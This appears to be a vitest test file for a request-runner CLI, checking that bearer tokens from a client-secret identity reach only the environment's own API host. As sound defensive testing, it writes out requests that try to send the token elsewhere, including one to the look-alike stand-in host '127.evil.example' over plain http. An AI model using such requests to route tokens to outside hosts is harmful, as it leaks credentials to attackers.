import { recordingProxy, runProgram, sandboxSeed as seed, serve, startTestSandbox, tempDir } from '@waybill/testkit';
import { describe, expect, test } from 'vitest';

const environment = (allowedHosts: string) => `
cloud: sandbox
identities:
  app:
    flow: client-secret
    tenantId: ${seed.tenantId}
    clientId: ${seed.apps[0]?.clientId}
    clientSecret: "{{ clientSecret }}"
    scope: "{{ resource }}/.default"
    ${allowedHosts}
secrets: { clientSecret: { env: SECRET } }
`;

/** Runs a collection with a sandbox as its API, and another server that would like to have the token. */
async function runWithOtherHost(yaml: (other: string) => string, options: { allow?: boolean } = {}) {
  const { origin } = await recordingProxy((await startTestSandbox()).url);
  const seen: (string | undefined)[] = [];
  const other = await serve((request, response) => {
    seen.push(request.headers.authorization);
    response.end('{}');
  });
  const allowedHosts = options.allow ? `allowedHosts: ["${new URL(other).host}"]` : '';
  const cwd = await tempDir({ 'a.yaml': yaml(other), 'environments/e.yaml': environment(allowedHosts) });
  const args = ['run', 'a.yaml', '-e', 'e', '--var', `apiUrl=${origin}`, '--var', `authorityUrl=${origin}`];
  const result = await runProgram(args, { cwd, env: { SECRET: seed.apps[0]?.secrets[0] as string } });
  return { ...result, seen };
}

describe('a token goes to the API of its environment only', () => {
  test('not to another host that a collection names', async () => {
    const result = await runWithOtherHost((other) => `requests: { a: { get: "${other}/x", auth: app } }`);
    expect(result.stdout).toContain('ERR_HOST_NOT_ALLOWED');
    expect(result.exitCode).toBe(3);
    expect(result.seen).toEqual([]);
  });

  test('not to a host that a collection puts in place of the API', async () => {
    const result = await runWithOtherHost(
      (other) =>
        `variables: { apiUrl: "${other}", authorityUrl: "${other}" }\nrequests: { a: { get: "${other}/x", auth: app } }`,
    );
    expect(result.stdout).toContain('ERR_HOST_NOT_ALLOWED');
    expect(result.seen).toEqual([]);
  });

  test('unless the identity allows that host', async () => {
    const result = await runWithOtherHost((other) => `requests: { a: { get: "${other}/x", auth: app } }`, {
      allow: true,
    });
    expect(result.exitCode).toBe(0);
    expect(result.seen).toEqual([expect.stringMatching(/^Bearer eyJ/)]);
  });

  test('nor over plain http to another machine', async () => {
    const cwd = await tempDir({
      'a.yaml': 'requests: { a: { get: "http://127.evil.example/x", auth: app } }',
      'environments/e.yaml': environment('allowedHosts: [127.evil.example]'),
    });
    const result = await runProgram(['run', 'a.yaml', '-e', 'e'], { cwd, env: { SECRET: 'x' } });
    expect(result.stdout).toContain('ERR_HOST_NOT_ALLOWED');
  });
});
